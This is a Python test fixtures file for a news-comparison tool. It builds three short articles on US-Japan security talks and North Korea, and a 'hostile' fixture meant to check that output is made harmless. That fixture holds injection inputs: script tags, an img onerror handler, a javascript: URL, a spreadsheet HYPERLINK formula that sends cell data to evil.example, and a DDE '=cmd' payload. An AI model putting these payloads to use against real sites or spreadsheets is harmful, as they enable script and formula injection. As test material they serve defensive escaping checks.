"""A story that never changes: three short articles, links by hand. What aligners find is no matter of reports."""

from collections.abc import Sequence
from datetime import date

import pytest

from newsread.findings import (
    Difference,
    DifferenceKind,
    Findings,
    Overlap,
    Quotation,
    Severity,
    Utterance,
)
from newsread.model import (
    Alignment,
    Article,
    Entity,
    EntityType,
    Evidence,
    Link,
    LinkKind,
    Mention,
    Sentence,
    SentenceKind,
    SentenceRef,
    Span,
)
from newsread.story import Story

CNN = [
    "Tillerson spoke at the close of US-Japan security meetings with Defense Secretary James Mattis.",
    "Tillerson added: “That is not our preferred path.”",
    "“In close collaboration with our allies, there are strong military consequences if the DPRK initiates hostilities,” he said.",
    "Tillerson also addressed the terror attack in Barcelona Thursday.",
]
HERALD = [
    'He added there are "strong military consequences" to hostilities initiated by the North.',
    'Military action is "not our preferred pathway," he said.',
    "The annual meeting was held for the first time since the launch of the Trump administration.",
]
DW = [
    "US, Japan to boost military ties to counter N. Korea",
    '"In close collaboration with our allies, there are strong military consequences if DPRK initiates hostilities," Mattis said.',
    'Their comments come after Steve Bannon said in an interview that there was "no military solution".',
]


def article(
    number: int, outlet: str, lines: Sequence[str], *, headline: bool = False, url: str | None = None
) -> Article:
    """An article with one sentence in each paragraph."""
    sentences, start = [], 0
    for index, line in enumerate(lines):
        kind = SentenceKind.HEADLINE if headline and not index else SentenceKind.BODY
        sentences.append(Sentence(start, start + len(line), line, kind, index))
        start += len(line) + 1
    title = lines[0] if headline else ""
    text = "\n".join(lines) + "\n"
    published = date(2017, 8, 16 + number) if number else None
    return Article(f"outlet-{number}", f"story/{number}.txt", outlet, title, text, tuple(sentences), published, url)


def link(
    source: tuple[int, int], target: tuple[int, int], score: float, *, partial: bool = False, quote: str = ""
) -> Link:
    kind = LinkKind.PARTIAL if partial else LinkKind.EQUIVALENT
    evidence = Evidence(quote=quote, entities=("DPRK",) if quote else (), terms=("military", "strong"))
    return Link(SentenceRef(*source), SentenceRef(*target), score, kind, evidence)


@pytest.fixture
def story() -> Story:
    """Three outlets, two passages that several carry, something that each has alone."""
    articles = (
        article(0, "CNN", CNN),
        article(1, "The Korea Herald", HERALD),
        article(2, "DW", DW, headline=True, url="https://www.dw.com/en/us-japan/a-40145467"),
    )
    quote = "strong military consequences"
    links = (
        link((0, 1), (1, 1), 0.93, quote="not our preferred"),
        link((0, 2), (1, 0), 0.81, quote=quote),
        link((0, 2), (2, 1), 0.99, quote=f"In close collaboration with our allies there are {quote}"),
        link((1, 0), (2, 1), 0.74, partial=True, quote=quote),
    )
    tillerson = [Mention(0, 0, 9), Mention(0, len(CNN[0]) + 1, len(CNN[0]) + 10)]
    mattis = [Mention(0, CNN[0].index("James"), CNN[0].index("James") + 12)]
    mattis.append(Mention(2, articles[2].text.index("Mattis"), articles[2].text.index("Mattis") + 6))
    entities = (
        Entity(0, "Rex Tillerson", EntityType.PERSON, tuple(tillerson)),
        Entity(1, "James Mattis", EntityType.PERSON, tuple(mattis)),
    )
    title, alignment = "US and Japan step up defence ties", Alignment(links, 0.5, "learned")
    return Story(articles, title, alignment, entities, findings=_findings(articles, links))


def _findings(articles: Sequence[Article], links: Sequence[Link]) -> Findings:
    quotations = (
        _quotation(articles, 0, 1, "That is not our preferred path.", "Rex Tillerson"),
        _quotation(articles, 0, 2, CNN[2][1:-11], "James Mattis"),
        _quotation(articles, 1, 0, "strong military consequences", "James Mattis"),
        _quotation(articles, 1, 1, "not our preferred pathway,", "Rex Tillerson"),
        _quotation(articles, 2, 1, DW[1][1:-15], "James Mattis"),
        _quotation(articles, 2, 2, "no military solution", "Steve Bannon"),
    )
    utterances = (Utterance((0, 3), 0), Utterance((1, 2, 4), 1), Utterance((5,), 5))
    path, pathway = (articles[n].text.index("preferred path") + 10 for n in (0, 1))
    names = (Span(85, 97), Span(165, 171))
    differences = (
        Difference(
            links[0], DifferenceKind.QUOTATION, Severity.DRIFT, Span(path, path + 4), Span(pathway, pathway + 7),
            "“path” / “pathway”",
        ),
        Difference(
            links[2], DifferenceKind.STRENGTH, Severity.CONFLICT, *names, "said / claimed: “claimed” leaves open whether it is true"
        ),
    )  # fmt: skip
    overlaps = (Overlap(0, 1), Overlap(0, 2, left_share=0.3, right_share=0.25))
    return Findings(quotations, (), utterances, differences, overlaps)


def _quotation(articles: Sequence[Article], number: int, sentence: int, words: str, name: str) -> Quotation:
    start = articles[number].text.index(words)
    return Quotation(number, start, start + len(words), (sentence,), words, name, name, verb="said")


@pytest.fixture
def hostile() -> Story:
    """Texts that would be markup, scripts, formulas or commands, were they not made harmless."""
    attack = [
        "<script>document.title='owned'</script> The minister said \"no\" & left.",
        "</span></p></article></main><img src=x onerror=\"document.title='owned'\"> <style>*{display:none}</style>",
        '=HYPERLINK("https://evil.example/?x="&A1;"click") ]]> <!-- --> \x1b[31mred\x1b[0m \u202etxet',
    ]
    articles = (
        article(
            0,
            "\"><script>document.title='owned'</script>",
            attack,
            headline=True,
            url="javascript:document.title='owned'",
        ),
        article(1, "=cmd|' /C calc'!A0", attack, url='https://example.com/"onmouseover="x'),
    )
    links = tuple(link((0, n), (1, n), 0.9, quote="<b>quoted words</b> & more") for n in range(3))
    entities = (Entity(0, "<i>Name</i>", EntityType.ORG, (Mention(0, 0, 5),)),)
    return Story(
        articles, "</title><script>document.title='owned'</script>", Alignment(links), entities, warnings=("<b>w",)
    )
